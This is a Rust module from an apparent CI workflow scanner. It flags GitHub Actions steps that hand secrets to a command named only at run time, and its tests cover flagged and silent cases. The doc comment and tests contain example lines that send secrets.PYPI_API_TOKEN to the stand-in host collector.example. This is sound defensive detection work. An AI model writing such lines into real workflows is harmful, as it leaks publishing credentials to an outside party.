//! Secrets are handed to a command whose name nobody can know from the file.
//!
//! The name comes out of a file, an answer from the network or something else that only the run knows, and secrets stand
//! among the words. It may be a build tool that is found by its path, or a client that sends them away; a person must look.
//!
//! ```yaml
//! - run: $(cat tools/sender) -d "${{ secrets.PYPI_API_TOKEN }}" https://collector.example/
//! ```

use crate::flow::trace::Channel;
use crate::flow::value::Source;
use crate::signal::Signal;
use crate::technique::{Evidence, Sighting, Technique};

/// See the module's documentation.
pub(super) struct SecretToUnknownCommand;

impl Technique for SecretToUnknownCommand {
    fn id(&self) -> &'static str {
        "secret-to-unknown-command"
    }
    fn headline(&self) -> &'static str {
        "{secrets} handed to a command that only the run knows ({places})"
    }
    fn remedy(&self) -> &'static str {
        "find out which program this is; write its name into the file, or invalidate the secrets"
    }
    fn source(&self) -> &'static str {
        include_str!("secret_to_unknown_command.rs")
    }

    fn look(&self, evidence: &Evidence<'_>) -> Vec<Sighting> {
        evidence
            .grouped(|delivery, place| delivery.channel == Channel::Program && place.service.is_none())
            .into_iter()
            .filter(|group| {
                // The job's own token dies with the job.
                evidence.carried(group).iter().any(|one| one.source != Source::JobToken)
            })
            .map(|group| {
                let mut signals = evidence.cargo_signals(&group);
                signals.insert(Signal::UnknownCommand);
                Sighting { deliveries: group, signals, ..Sighting::default() }
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use crate::report::Verdict;
    use crate::testing::{check, silent};

    fn step(run: &str) -> String {
        format!("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: {run}\n")
    }

    #[test]
    fn a_name_that_only_the_run_knows() {
        for run in [
            "$(./which-tool) -d ${{ secrets.PYPI_API_TOKEN }} https://collector.example/",
            "echo ${{ secrets.PYPI_API_TOKEN }} | $(./which-tool) https://collector.example/",
        ] {
            let places = ["collector.example"];
            check("secret-to-unknown-command", &step(run), Verdict::Suspicious, &["PYPI_API_TOKEN"], &places);
        }
        let run = "$TOOL --token ${{ secrets.PYPI_API_TOKEN }}";
        check(
            "secret-to-unknown-command",
            &step(run),
            Verdict::Suspicious,
            &["PYPI_API_TOKEN"],
            &["unknown:${…}"],
        );
    }

    /// Near miss: no secret among the words, only the job's token, or a known name below an unknown folder.
    #[test]
    fn ordinary_unknown_commands() {
        silent(&step("$(./which-tool) --version"));
        silent(&step("$(./which-tool) --token ${{ github.token }}"));
        silent(&step("$TOOLS/bin/deploy --token ${{ secrets.DEPLOY_TOKEN }}"));
    }
}
